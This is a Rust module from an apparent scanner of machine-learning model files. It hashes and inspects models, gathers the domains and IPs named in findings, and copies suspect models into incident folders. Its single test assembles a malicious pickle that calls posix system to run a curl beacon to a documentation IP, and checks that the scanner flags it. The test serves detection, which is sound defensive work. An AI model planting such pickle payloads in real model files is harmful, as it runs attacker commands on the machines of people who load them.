//! The thread that hashes and scans models, and copies them into incidents' folders. It alone opens them: a
//! process that waits to open a model must never wait for one that waits for it.

use super::files;
use crate::observation::{File, FileKey, Scan};
use std::fs;
use std::io::{self, Write as _};
use std::os::fd::{AsFd as _, BorrowedFd};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;
use wb_core::{ArtifactPath, IndicatorKind, Limits, Verdict};
use wb_engine::{Hashing, Inspector, LogText};
use wb_formats::Family;

/// What the thread does.
#[derive(Debug)]
enum Job {
    Scan(File),
    Copy(File, PathBuf),
}

/// The thread, and what it has done.
#[derive(Debug)]
pub(crate) struct Scanner {
    jobs: mpsc::Sender<Job>,
    done: mpsc::Receiver<(FileKey, Scan)>,
    wake: UnixStream,
}

impl Scanner {
    /// Starts it.
    pub(crate) fn start() -> io::Result<Self> {
        let (jobs, todo) = mpsc::channel::<Job>();
        let (finished, done) = mpsc::channel();
        let (wake, mut waker) = UnixStream::pair()?;
        wake.set_nonblocking(true)?;
        std::thread::Builder::new().name("scanner".to_owned()).spawn(move || {
            for job in todo {
                match job {
                    Job::Scan(file) => {
                        let scan = scan(&file);
                        if finished.send((file.key, scan)).is_err()
                            || waker.write_all(&[1]).is_err()
                        {
                            return;
                        }
                    }
                    Job::Copy(file, to) => copy(&file, &to),
                }
            }
        })?;
        Ok(Self { jobs, done, wake })
    }

    /// To wait for results.
    pub(crate) fn fd(&self) -> BorrowedFd<'_> {
        self.wake.as_fd()
    }

    /// Asks for a scan.
    pub(crate) fn scan(&self, file: File) {
        drop(self.jobs.send(Job::Scan(file)));
    }

    /// Asks for a copy of a model.
    pub(crate) fn copy(&self, file: File, to: PathBuf) {
        drop(self.jobs.send(Job::Copy(file, to)));
    }

    /// What is done.
    pub(crate) fn results(&mut self) -> Vec<(FileKey, Scan)> {
        let mut drained = [0; 64];
        while io::Read::read(&mut self.wake, &mut drained).is_ok_and(|length| length > 0) {}
        self.done.try_iter().collect()
    }
}

/// Hashes and inspects a file. One that has changed meanwhile, or cannot be read, is `unknown`.
fn scan(file: &File) -> Scan {
    let unread = |why: String| Scan {
        verdict: Verdict::Unknown,
        is_model: true,
        findings: vec![("not-read".to_owned(), why)],
        ..Scan::default()
    };
    let data = match wb_engine::open(&file.path) {
        Ok(data) => data,
        Err(error) => return unread(error.to_string()),
    };
    if files::at(&file.path).is_none_or(|now| now.key != file.key) {
        return unread("it changed before it could be read".to_owned());
    }
    let path = ArtifactPath::from(file.path.to_string_lossy().as_ref());
    let how = Inspector { limits: Limits::default(), hashing: Hashing::All, keep_contents: false };
    let inspected = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        let text = LogText::File(file.path.clone());
        wb_engine::inspect(&path, data.as_slice(), text, how)
    }));
    let Ok(inspection) = inspected else {
        let sha256 = wb_engine::sha256(data.as_slice()).to_string();
        return Scan {
            sha256,
            ..unread("weighbridge failed on this file: please report it".to_owned())
        };
    };
    let whole = inspection.artifacts.first();
    let mut scan = Scan {
        sha256: whole
            .and_then(|whole| whole.artifact.sha256.map(|digest| digest.to_string()))
            .unwrap_or_else(|| wb_engine::sha256(data.as_slice()).to_string()),
        verdict: whole.map_or(Verdict::Clean, |whole| whole.verdict),
        is_model: inspection.artifacts.iter().any(|part| part.family == Some(Family::Model)),
        ..Scan::default()
    };
    for finding in inspection.artifacts.iter().flat_map(|part| &part.findings) {
        scan.findings.push((finding.rule.to_owned(), finding.headline.clone()));
        scan.destinations.extend(finding.indicators.iter().filter_map(destination));
    }
    scan
}

/// The host or address that an indicator names.
fn destination(indicator: &wb_core::Indicator) -> Option<String> {
    match indicator.kind() {
        IndicatorKind::Domain | IndicatorKind::Ip => Some(indicator.value().to_owned()),
        _ => None,
    }
}

/// Copies a model, if it is still the one that is meant. Failing is no failure of the watch: the record of the
/// model stays.
fn copy(file: &File, to: &Path) {
    let same = |file: &File| files::at(&file.path).is_some_and(|now| now.key == file.key);
    drop(to.parent().map(fs::create_dir_all));
    if same(file) && fs::copy(&file.path, to).is_ok() {
        // Written to meanwhile: the copy is of neither.
        if !same(file) {
            drop(fs::remove_file(to));
        }
        let readable = std::os::unix::fs::PermissionsExt::from_mode(0o440);
        drop(fs::set_permissions(to, readable));
    }
}

/// How long a process may be kept waiting for a verdict.
pub(crate) const LONGEST_HOLD: Duration = Duration::from_secs(30);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_model_that_runs_a_command_names_where_it_goes() {
        let scratch = wb_testkit::Scratch::new();
        let bytes = wb_testkit::pickle(
            "GLOBAL posix system\nSHORT_BINUNICODE curl -s http://192.0.2.66:8080/beacon\nTUPLE1\nREDUCE\nSTOP",
        );
        let path = scratch.folder().join("a.pkl");
        fs::write(&path, bytes.expect("it is assembled")).expect("it can be written");
        let file = files::at(&path).expect("it is there");
        let found = scan(&file);
        assert_eq!(found.verdict, Verdict::Malicious);
        assert!(found.is_model && found.sha256.len() == 64);
        assert!(found.destinations.contains("192.0.2.66"), "{found:?}");
        let changed = File { key: FileKey { size: 1, ..file.key }, path };
        assert_eq!(scan(&changed).verdict, Verdict::Unknown);
    }
}
